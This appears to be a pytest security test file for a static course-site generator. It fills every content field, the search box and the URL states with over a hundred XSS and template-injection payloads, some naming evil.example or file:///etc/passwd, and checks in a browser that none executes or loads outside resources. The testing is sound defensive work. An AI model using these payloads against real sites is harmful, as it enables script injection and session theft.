"""Nothing that authors write is markup: hostile words in every field that reaches a page, looked at in a real browser.

One small course holds them all, with results that are made up. Its pages are opened as they are, and once more without
their policy: then the words themselves must be harmless. So are addresses and what is searched for.
"""

from __future__ import annotations

import json
import re
import shutil
from collections.abc import Callable, Iterator, Sequence
from contextlib import suppress
from pathlib import Path
from typing import TYPE_CHECKING

import pytest
from markupsafe import escape
from PIL import Image
from stored_results import known

from netviz.cache.store import Store
from netviz.course.lessons import read_text
from netviz.mistakes import Mistakes
from netviz.options import Options
from netviz.pipeline import build
from netviz.progress import Reporter
from netviz.site.text.markup import file_mistakes, inline_template, lesson_body, link_mistakes

if TYPE_CHECKING:
    from browser import Browser

TAGS = (
    "<script>alert(1)</script>",
    "<ScRiPt>alert(1)</sCrIpT>",
    "<script src=https://evil.example/x.js></script>",
    "<script\n>alert(1)</script\n>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "</title><script>alert(1)</script>",
    "</textarea><script>alert(1)</script>",
    "</style><script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    "--><script>alert(1)</script>",
    "<!--><script>alert(1)</script>-->",
    "]]><script>alert(1)</script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml-stylesheet href='javascript:alert(1)'?>",
    "<img src=x onerror=alert(1)>",
    "<IMG SRC=x ONERROR=alert(1)>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=x onerror=alert&lpar;1&rpar;>",
    "<img src=https://evil.example/x.png>",
    "<img srcset='https://evil.example/x.png 1x'>",
    '<img src="x` `<script>alert(1)</script>"` `>',
    "<image href=x onerror=alert(1)>",
    "<picture><source srcset=x><img onerror=alert(1) src=x></picture>",
    "<svg onload=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><script href=data:,alert(1)></script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a href=javascript:alert(1)><text y=20>x</text></a></svg>",
    "<svg><use href=https://evil.example/x.svg#x></use></svg>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<math><mtext><img src=x onerror=alert(1)></mtext></math>",
    "<math href=javascript:alert(1)>x</math>",
    "<math><maction actiontype=statusline#https://evil.example xlink:href=javascript:alert(1)>x</maction></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=javascript:alert(1)><input type=submit autofocus>",
    "<form><button formaction=javascript:alert(1)>x</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<select autofocus onfocus=alert(1)>",
    "<textarea autofocus onfocus=alert(1)>",
    "<keygen autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<body onpageshow=alert(1)>",
    "<marquee onstart=alert(1)>",
    "<video src=x onerror=alert(1)></video>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<dialog open onclose=alert(1)>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<meta http-equiv=Content-Security-Policy content='default-src *'>",
    "<base href=https://evil.example/>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<link rel=prefetch href=https://evil.example/>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(https://evil.example/x)}</style>",
    "<p style=animation-name:x onanimationstart=alert(1)>",
    "<div style='background:url(javascript:alert(1))'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href=java&#9;script:alert(1)>x</a>",
    "<a href=data:text/html,<script>alert(1)</script>>x</a>",
    "<a ping=https://evil.example href=#>x</a>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<x onclick=alert(1) onmouseover=alert(1) tabindex=0 autofocus onfocus=alert(1)>x</x>",
    "<xss id=x onfocusin=alert(1) tabindex=1>x</xss>",
)
BREAKING_OUT = (
    '"><script>alert(1)</script>',
    "'><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><img src=x onerror=alert(1)>",
    '" onmouseover="alert(1)',
    "' onmouseover='alert(1)",
    '" autofocus onfocus="alert(1)" x="',
    "` onmouseover=`alert(1)",
    'x" style="background:url(https://evil.example/x)',
    '\\"><script>alert(1)</script>',
    "'-alert(1)-'",
    '"-alert(1)-"',
    "\\'-alert(1)//",
    '\\";alert(1)//',
    "${alert(1)}",
    "`;alert(1);`",
    "*/alert(1)/*",
    "red;background:url(https://evil.example/x)",
)
IN_OTHER_SIGNS = (
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "&#60;script&#62;alert(1)&#60;/script&#62;",
    "&#x3c;img src=x onerror=alert(1)&#x3e;",
    "&quot;&gt;&lt;img src=x onerror=alert(1)&gt;",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "%22%3E%3Cimg%20src=x%20onerror=alert(1)%3E",
    "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
    "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
    "＜script＞alert(1)＜/script＞",
    "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "¼script¾alert(1)¼/script¾",
    "{{ '<script>alert(1)</script>' }}",
    "{% raw %}<script>alert(1)</script>{% endraw %}",
    "{{ ['<img src=x onerror=alert(1)>'] | join }}",
    "{{constructor.constructor('alert(1)')()}}",
    "{{ self.__init__.__globals__ }}",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java&#115;cript:alert(1))",
    "[x](<javascript:alert(1)>)",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:alert(1))",
    '[x](https://a.example/"onmouseover="alert(1))',
    '[x](# "onmouseover=alert(1) \'><script>alert(1)</script>")',
    '![x](x"onerror="alert(1))',
    "![x](https://evil.example/x.png)",
    "[x]: javascript:alert(1)",
    "<javascript:alert(1)>",
    '<https://a.example/"onmouseover=alert(1)>',
    "`<script>alert(1)</script>`",
    "**<img src=x onerror=alert(1)>**",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    '$\\class{x" onclick="alert(1)}{x}$',
    "$\\style{background:url(https://evil.example/x)}{x}$",
    "$\\unicode{60}script\\unicode{62}$",
    '!!! "><script>alert(1)</script>',
)
ADDRESSES = (
    "javascript:alert(1)",
    "JAVASCRIPT:alert(1)",
    "java\tscript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "vbscript:alert(1)",
    "//evil.example/x.js",
    "https://evil.example/x.js",
    'https://evil.example/"onmouseover="alert(1)',
    "https://evil.example/'><script>alert(1)</script>",
    "file:///etc/passwd",
    "blob:https://evil.example/x",
    '#"><script>alert(1)</script>',
)
HOSTILE = (*TAGS, *BREAKING_OUT, *IN_OTHER_SIGNS, *ADDRESSES)
ALL = " ".join(HOSTILE).replace("\n", " ").replace("\t", " ")
FORMS: tuple[Callable[[str], str], ...] = (  # of words in Markdown; what is refused of these is left out
    lambda word: word,
    lambda word: re.sub(r"([!-/:-@\[-`{-~])", r"\\\1", word),
    lambda word: "{{ " + json.dumps(word, ensure_ascii=False) + " }}",
)
RARER_FORMS: tuple[Callable[[str], str], ...] = (
    lambda word: f"`` {word} ``",
    lambda word: f"*a* **{word}** _b_",
    lambda word: f'[x](# "{word}")',
    lambda word: f"[x]({word})",
    lambda word: f"[x](<{word}>)",
    lambda word: f"https://a.example/{word} <https://a.example/{word}> <mailto:{word}>",
    lambda word: f"$\\text{{{word}}}$",
)
BLOCKS: tuple[Callable[[str], str], ...] = (
    lambda word: f"## {word}",
    lambda word: f'!!! note "{word}"\n    x',
    lambda word: f'??? {word} "{word}"\n    x',
    lambda word: f"| {word} |\n|---|\n| {word} |",
    lambda word: f"> - 1. {word}",
    lambda word: f"{word}\n:   {word}",
    lambda word: f"```html\n{word}\n```",
    lambda word: f"```{word}\nx\n```",
    lambda word: f"$$x \\label{{{word}}}$$",
    lambda word: f"    {word}",
)
NAMES = ("javascript:alert(1)", "%23#?'\"><img src=x onerror=alert(1)>")  # of photos
STATES = (  # what may follow #ID@ in an address
    *("__proto__", "constructor", "toString", "%", "%E0%A4%A", "%00", "\\", "NaN", "-1", "1e99", "@@", "&&&", "="),
    *("at=", "at=x:9e9", "at=~0:NaN", "&at=:-1", ":::", "block3_conv2:-1", "block3_conv2:9e9", "block3_conv2:<b>"),
    *("a'b\"c`d", "x" * 5000, "*", "[id]", "a,b", "..", "javascript:alert(1)", "<svg onload=alert(1)>"),
    '"><script>alert(1)</script>',
)  # fmt: skip

LISTENING = """
window.told = [];
for (const name of ["alert", "prompt", "confirm", "open", "print"]) window[name] = () => told.push(name);
addEventListener("error", (event) => told.push(`${event.message} ${event.target.outerHTML}`), true);
document.addEventListener("securitypolicyviolation", (event) => told.push(`policy: ${event.blockedURI}`));
"""
HARM = r"""
const OUTSIDE = /^(file|https?|mailto):/;
const foreign = performance.getEntriesByType("resource").filter((one) => !one.name.startsWith("file:"));
const isHarm = (element) => /^(iframe|object|embed|form|base|style|video|audio|image|xss|x)$/i.test(element.tagName)
  || Array.from(element.attributes).some(({ name }) => /^on|^srcdoc$|^ping$|^formaction$|xlink/.test(name))
  || ["href", "src"].some((name) => element.hasAttribute(name) && !element.matches("link")
    && !(element.matches("a") ? OUTSIDE : /^file:/).test(new URL(element.getAttribute(name), location.href)));
return [...told, ...foreign.map((one) => one.name),
  ...Array.from(document.querySelectorAll("*")).filter(isHarm).map((one) => one.outerHTML)];
"""


def accepted(folder: Path) -> list[str]:
    """Of all words in every form those that a lesson may hold."""
    return [
        piece for number, word in enumerate(HOSTILE) for piece in _pieces(word, number) if _is_accepted(piece, folder)
    ]


def _pieces(word: str, number: int) -> list[str]:
    return [form(word) for form in (*FORMS, RARER_FORMS[number % len(RARER_FORMS)], BLOCKS[number % len(BLOCKS)])]


def _is_accepted(piece: str, folder: Path) -> bool:
    (folder / "en.md").write_text(f"---\ntitle: A\nsummary: B\n---\n{piece}\n", "utf-8")
    with suppress(Mistakes):
        text = read_text(folder / "en.md", "en")
        expressions = [span.source for span in text.spans if span.kind in ("expression", "statement")]
        literal = all(re.fullmatch(r'\{\{ "(\\.|[^"\\%])*" \}\}', one) for one in expressions)
        body = lesson_body(text)
        refused = [*link_mistakes(text, body.template, "first", {"first": ()}), *file_mistakes(text, {})]
        return literal and not refused
    return False


def captions() -> list[str]:
    """Of all words in every form those that a caption, a question or a meaning may hold."""
    found = []
    for piece in (form(word) for word in HOSTILE for form in FORMS):
        with suppress(ValueError):
            inline_template(piece)
            found += [] if re.search(r"(?<!\\)\{(%|\{(?! \"[^%]*$))", piece) else [piece]
    return found


def both(words: str) -> str:
    """Words in both languages, as YAML."""
    return json.dumps({"en": words, "zh": words}, ensure_ascii=False)


def write_course(content: Path, pieces: Sequence[str]) -> None:
    """A course that is hostile in every field."""
    texts, quoted = captions(), [json.dumps(word) for word in HOSTILE]
    front = f"---\ntitle: {json.dumps(ALL)}\nsummary: {json.dumps(ALL)}\nlearn: [{', '.join(quoted)}]\n---\n\n"
    caption, ask, because = (json.dumps(" ".join(texts[start::6])) for start in range(3))
    measured = [{"task": word, "library": library, "median": 1} for word in HOSTILE for library in ("ours", HOSTILE[0])]
    origin = {"date": ALL, "processor": ALL, "cores": 2, "command": ALL, "versions": {HOSTILE[0]: ALL}}
    choices = "".join(f"  - {{text: {json.dumps(one)}, right: \"picture.name == 'a'\"}}\n" for one in texts)
    claims = "".join(f"  - {json.dumps(f'{word!r} in top.names')}\n" for word in HOSTILE if "{%" not in word)
    fences = f"""
```experiment
id: says
method: predict
alt: {json.dumps(ALL)}
caption: {caption}
expect:  # {ALL}
{claims}```

```experiment
id: slope
method: gradient
view: signed
vary: {{target: [top1, top2]}}
alt: {json.dumps(ALL)}
caption: {caption}
```

```question
id: how
ask: {ask}
because: {because}
choices:
{choices}```

{{{{ measurement_table("tools", "seconds") }}}}

{{{{ measured("tools").command }}}} {{{{ picture.title }}}}

"""
    notices = ", ".join(
        f"{{name: {both(word)}, licence: {json.dumps(word)}, source: {_address(word)}}}" for word in HOSTILE
    )
    terms = "".join(
        f"    - {{key: term-{number}, name: {both(word)}, means: {both(text)}}}\n"
        for number, (word, text) in enumerate(zip(HOSTILE, texts, strict=False))
    )
    works = "".join(
        f"- {{key: work-{number:03}, authors: {json.dumps(word)}, year: 2000, title: {json.dumps(word)}, "
        f"place: {json.dumps(word)}, url: {_address(f'{number}/{word}')}}}\n"
        for number, word in enumerate(HOSTILE)
    )
    photos = "".join(
        f"{json.dumps(name)}: {{title: {both(ALL)}, credit: {json.dumps(ALL)}, licence: {json.dumps(ALL)}, "
        f"source: {_address(ALL)}}}\n"
        for name in NAMES
    )
    page = front + fences + "\n\n".join(pieces) + "\n"
    plain = "---\ntitle: {0}\nsummary: {0}\n---\n\n{1}\n".format(json.dumps(ALL), "\n\n".join(pieces[::7]))
    files = {
        "site.yaml": f"title: {both(ALL)}\ntagline: {both(ALL)}\naddress: {json.dumps(ADDRESS)}\nnotices: [{notices}]\n"
        f"parts: [{{title: {both(ALL)}, lessons: [first]}}]\n",
        "lessons/01-first/en.md": page,
        "lessons/01-first/zh.md": page.replace(fences, ""),
        "pages/home/en.md": plain,
        "pages/home/zh.md": plain,
        "pages/about/en.md": plain,
        "pages/about/zh.md": plain,
        "glossary.yaml": f"- key: chapter\n  title: {both(ALL)}\n  terms:\n{terms}",
        "bibliography.yaml": works,
        "pictures/credits.yaml": photos,
        "measurements/tools.json": json.dumps({**origin, "rows": measured}),
        f"static/{NAMES[1]}.txt": ALL,
    }
    for name, text in files.items():
        (content / name).parent.mkdir(parents=True, exist_ok=True)
        (content / name).write_text(text, "utf-8")
    for number, name in enumerate(NAMES):
        Image.new("RGB", (300, 300), (80 * number, 90, 99)).save(content / "pictures" / f"{name}.png")


def _address(word: str) -> str:
    return json.dumps("https://a.example/" + re.sub(r"\s", "", word))


ADDRESS = json.loads(_address(re.sub("[?#]", "", ALL)))  # of the site


@pytest.fixture(scope="module")
def hostile(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The site of such a course."""
    folder = tmp_path_factory.mktemp("hostile")
    content, store = folder / "content", Store(folder / "store")
    write_course(content, accepted(folder))
    known(content, store)
    build(Options(content=content, to=folder / "site", store=store.folder), Reporter())
    return folder / "site"


@pytest.fixture
def listening(browser: Browser) -> Iterator[Browser]:
    """A browser that notes what a page says, asks for, and is refused by its policy."""
    with browser.running_first(LISTENING):
        yield browser


def pages(site: Path) -> list[Path]:
    return sorted(site.rglob("*.html"))


def copied(site: Path, to: Path, policy: bool) -> Path:
    """A copy whose page for what is not found asks for files beside it, not at the site's address on the web."""
    shutil.copytree(site, to)
    for page in pages(to):
        html = page.read_text("utf-8")
        if page.name == "404.html":
            html = html.replace(f"{escape(ADDRESS)}/", "" if page.parent == to else "../")
        if not policy:
            html, removed = re.subn(r'<meta http-equiv="Content-Security-Policy"[^>]*>', "", html)
            assert removed == 1
        page.write_text(html, "utf-8")
    return to


def test_there_are_a_hundred_hostile_words() -> None:
    assert len(set(HOSTILE)) > 100


@pytest.mark.parametrize("policy", [True, False])
def test_no_word_becomes_markup(listening: Browser, hostile: Path, tmp_path: Path, policy: bool) -> None:
    for page in pages(copied(hostile, tmp_path / "site", policy)):
        listening.open(page)
        assert listening.run(HARM) == [], page
        assert "alert(1)" in listening.run("return document.body.innerText"), page


def test_no_search_becomes_markup(listening: Browser, hostile: Path, tmp_path: Path) -> None:
    listening.open(copied(hostile, tmp_path / "site", policy=False) / "index.html")
    listening.follow("a.search")
    listening.expect("return Boolean(window.searchIndex)")
    found = 0
    for word in (*HOSTILE, *STATES):
        listening.do(
            "const input = document.querySelector('.finder input'); input.value = arguments[0];"
            "input.dispatchEvent(new Event('input'));",
            word,
        )
        listening.expect(HARM, [])
        found += listening.run("return document.querySelectorAll('.finder li').length")
    assert found > 100
    listening.do("Object.assign(document.body.appendChild(document.createElement('img')), {id: 'last', src: 'none'})")
    listening.expect("return told.length > 0")  # whatever else was to load or to fail has done so before
    listening.do("document.getElementById('last').remove(); told.pop()")
    listening.expect(HARM, [])


# Whether the page has heard of its new address, which it is told of later than it has it.
GO = """const before = location.href;
    window.heard = false;
    addEventListener('hashchange', () => { heard = true; }, {once: true});
    location.hash = arguments[0];
    heard ||= location.href === before;"""


def test_no_address_does_harm(listening: Browser, site: Path) -> None:
    page = (site / "what-a-gradient-says.html").resolve().as_uri()
    for state in STATES:
        listening.open(f"{page}?{state}#says-slider@{state}")
        for other in (f"says-grid@{state}", state, f"1&says-slider@5&{state}@{state}"):
            listening.do(GO, other)
            listening.expect("return heard")
        assert listening.run(HARM) == [], state
